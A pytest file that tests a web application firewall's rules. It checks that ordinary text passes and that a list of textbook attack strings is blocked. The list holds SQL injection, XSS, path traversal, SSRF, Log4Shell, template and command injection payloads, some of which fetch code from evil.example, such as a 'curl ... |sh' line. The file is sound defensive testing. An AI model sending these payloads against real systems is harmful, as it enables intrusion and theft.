"""The rules that come with the edge, against what people write."""

import json
from urllib.parse import quote_plus

import pytest

from edge.l7.waf.request import WafRequest
from tests.kit.effort import examples
from tests.l7.waf.samples import embedded, embedded_inspector, get, post
from tests.oracle.waf_grammar import Sample
from tests.oracle.waf_sentences import SENTENCES, manuals, sentence


def as_form(text: str) -> Sample:
    """A comment as a browser posts it."""
    body = b"user=ada&text=" + quote_plus(text).encode() + b"&lang=en"
    return post(body), body


def as_query(text: str) -> Sample:
    """A search."""
    return get(b"/search?q=" + quote_plus(text).encode() + b"&page=2"), b""


def as_json(text: str) -> Sample:
    """A message as an app sends it."""
    body = json.dumps({"text": text, "reply_to": None, "tags": ["a"]}, ensure_ascii=False).encode()
    return post(body, b"application/json"), body


PLACES = [as_form, as_query, as_json]


def is_refused(sample: Sample) -> bool:
    """Whether the phone would see a 403."""
    head, body = sample
    inspector = embedded_inspector()
    verdict = inspector.inspect_body(head, body, 0.0) if body else inspector.inspect_head(head, 0.0)
    return verdict.action == "block"


@pytest.mark.parametrize("place", PLACES)
def test_sentences_that_look_like_pieces_of_attacks_pass(place: type[Sample]) -> None:
    """Each was written because a filter that counts words would refuse it."""
    refused = [text for text in SENTENCES if is_refused(place(text))]

    assert refused == []


def test_of_thousands_of_made_up_sentences_hardly_any_is_refused() -> None:
    """Chats, addresses, code talk, shell talk, SQL-like English, eight languages: 1 in 300 at most."""
    count = examples(6000)
    texts = [sentence(1, number) for number in range(count)]

    refused = [text for number, text in enumerate(texts) if is_refused(PLACES[number % 3](text))]

    assert len(refused) <= count * 0.003, refused[:10]


def test_of_sentences_that_nobody_wrote_for_this_hardly_any_is_refused() -> None:
    """Change logs, licences and docstrings of this machine, command lines included: 1 in 100 at most."""
    texts = manuals(examples(4000))
    if len(texts) < 200:
        pytest.skip("no manuals are installed here")

    refused = [text for number, text in enumerate(texts) if is_refused(PLACES[number % 3](text))]

    assert len(refused) <= len(texts) * 0.01, refused[:10]


# One a line.
ATTACKS = """
';i'd
;i'd'
& l''s -la
' or '1'='1
1' or 1=1-- -
admin'--
admin'#
1 or 1=1
1) or (1=1
' or 'a' like 'a
1' and sleep(5)-- -
'; drop table users--
-1 union select 1,2,3-- -
' union all select null,version()--
1; select pg_sleep(5)
1' order by 3-- -
' and extractvalue(1,concat(0x7e,version()))-- -
1 and (select count(*) from users)>0
'||(select password from users limit 1)||'
1;exec xp_cmdshell 'dir'
{"$ne": null}
hello'/**/oR/**/1=1#
<script>alert(1)</script>
<img src=x onerror=alert(1)>
<svg/onload=alert(1)>
"><script>alert(1)</script>
javascript:alert(1)
' onfocus=alert(1) autofocus='
<iframe src=javascript:alert(1)>
<a href="javascript:alert(1)">x</a>
<body onload=alert(1)>
{{constructor.constructor('alert(1)')()}}
<object data="data:text/html;base64,PHN2Zz4=">
../../../../etc/passwd
/etc/passwd
..\\..\\windows\\win.ini
....//....//etc/passwd
php://filter/convert.base64-encode/resource=index.php
file:///etc/passwd
http://169.254.169.254/latest/meta-data/
http://127.0.0.1:8080/admin
gopher://127.0.0.1:6379/_INFO
; cat /etc/passwd
| id
&& whoami
$(id)
`id`
; ls -la
; find / -name x
try ; find . -name core
127.0.0.1; cat /
127.0.0.1; ping -c 1 evil.example
a || curl http://evil.example/x
;wget${IFS}http://evil.example
() { :; }; /bin/bash -c id
& dir c:\\
powershell -enc SQBFAFgA
<?php system($_GET['c']); ?>
system('id');
eval($_POST[1])
phpinfo()
O:8:"Evil":1:{s:1:"a";i:1;}
${jndi:ldap://evil.example/a}
${${lower:j}ndi:rmi://x/a}
T(java.lang.Runtime).getRuntime().exec('id')
class.module.classLoader.resources
require('child_process').exec('id')
process.mainModule.require('fs')
{{7*7}}
{{''.__class__.__mro__[1].__subclasses__()}}
${7*7}
<%= 7*7 %>
__import__('os').system('id')
*)(uid=*))(|(uid=*
<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>
""".strip().splitlines()


@pytest.mark.parametrize("place", PLACES)
def test_what_every_textbook_shows_is_refused(place: type[Sample]) -> None:
    """Rules that let sentences pass by letting everything pass would be easy to write."""
    passed = [text for text in ATTACKS if not is_refused(place(text))]

    assert passed == []


@pytest.mark.parametrize(
    "text", ["I'm fine; ", "Dear Sir or Madam, ", "great photo! see you at 9 or 10 ", "été à la plage, "]
)
def test_an_ordinary_beginning_does_not_hide_an_attack(text: str) -> None:
    """A comment in front costs an attacker nothing, wherever the attack may begin in the middle."""
    anywhere = [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "; cat /etc/passwd",
        "${jndi:ldap://evil.example/a}",
        "' union select 1,2,3-- -",
        "'; drop table users--",
        "$(curl http://evil.example/x|sh)",
        "{{7*7}}",
    ]

    assert [attack for attack in anywhere if not is_refused(as_form(text + attack))] == []


def test_there_are_enough_rules_and_each_explains_itself() -> None:
    """A rule that a learner does not understand is a rule that nobody dares to change."""
    own = [rule for rule in embedded().rules if not rule.bookkeeping]

    assert 100 <= len(own) <= 150
    assert [rule.id for rule in own if len(rule.explanation) < 60 or not str(rule.message)] == []
    assert len({rule.explanation for rule in own}) == len(own)
    assert {rule.tags[0] for rule in own} >= {
        f"attack-{family}"
        for family in ("sqli", "xss", "lfi", "rfi", "rce", "php", "java", "generic", "scanner", "protocol")
    }


@pytest.mark.parametrize(
    ("referer", "refused"),
    [
        (b"https://i.edge.test/feed", False),
        (b"https://i.edge.test", False),
        (b"https://evil.example/", True),
        (b"https://i.edge.test.evil.example/", True),
    ],
)
def test_a_session_id_in_a_link_is_refused_from_other_sites_only(referer: bytes, refused: bool) -> None:
    """Whatever name the site has: its own pages may link as they like."""
    head = get(b"/?sid=abc123", (*get(b"/").headers, (b"referer", referer)))

    assert is_refused((head, b"")) is refused


def test_a_request_as_phones_send_it_is_quiet() -> None:
    """Not even a point."""
    head = WafRequest(
        "203.0.113.9", "GET", b"/api/v1/feed/timeline/?max_id=123_456", "HTTP/1.1", get(b"/").headers
    )

    assert embedded_inspector().inspect_head(head, 0.0).matches == ()


@pytest.mark.parametrize("name", [b"user-agent", b"referer"])
@pytest.mark.parametrize(
    "value",
    [
        b"1' or 1=1-- -",
        b"x' union select password from users--",
        b"https://x/?q=' and sleep(5)--",
        b"<script>alert(1)</script>",
        b"${jndi:ldap://x/a}",
        b"() { :; }; /bin/bash -c id",
    ],
)
def test_the_headers_that_applications_store_are_read_as_well(name: bytes, value: bytes) -> None:
    """They end in tables and on pages of statistics."""
    assert embedded_inspector().inspect_head(get(b"/", ((name, value),)), 0.0).action == "block"


USER_AGENTS = """
Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0
Mozilla/5.0 (iPhone; CPU iPhone OS 17_1_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile
Mozilla/5.0 (Linux; U; Android 9; pt-BR; O'Neil Phone Build/PPR1) AppleWebKit/534.30
Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0; SLCC2; .NET CLR 2.0.50727; .NET4.0C; .NET4.0E)
Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)
Opera/9.80 (J2ME/MIDP; Opera Mini/7.1.32052/29.3709; U; en) Presto/2.8.119 Version/11.10
Instagram 309.0.0.40.113 Android (33/13; 420dpi; 1080x2219; samsung; SM-A536B; a53x; en_GB; 536987654)
Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)
Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.16827; Pro)
Apache-HttpClient/4.5.13 (Java/11.0.20)
curl/7.88.1
"""
REFERERS = """
https://www.google.com/search?q=select+a+plan+from+the+list&oq=select&sourceid=chrome&ie=UTF-8
https://www.bing.com/search?q=it%27s+1+or+2+union+square&form=QBLH&sp=-1&lq=0
https://example.com/a/b;c=d?x=1&y='quoted'&z=(1)
https://example.com/search?q=%22drop+table%22+sql&limit=10&order=by+name
https://shop.example.com/p/it's-a-chair?variant=12&utm_source=news--letter&utm_campaign=50%25-off
https://example.com/#/users/1?tab=a||b
https://example.com/login?next=%2Faccount%3Fid%3D1%26or%3D2
android-app://com.google.android.gm/
"""


@pytest.mark.parametrize(("name", "lines"), [(b"user-agent", USER_AGENTS), (b"referer", REFERERS)])
def test_what_browsers_and_robots_say_of_themselves_passes(name: bytes, lines: str) -> None:
    """Brackets, semicolons, quotes and query strings and all."""
    refused = [
        line
        for line in lines.split("\n")
        if line
        and embedded_inspector().inspect_head(get(b"/feed", ((name, line.encode()),)), 0.0).action != "pass"
    ]

    assert refused == []
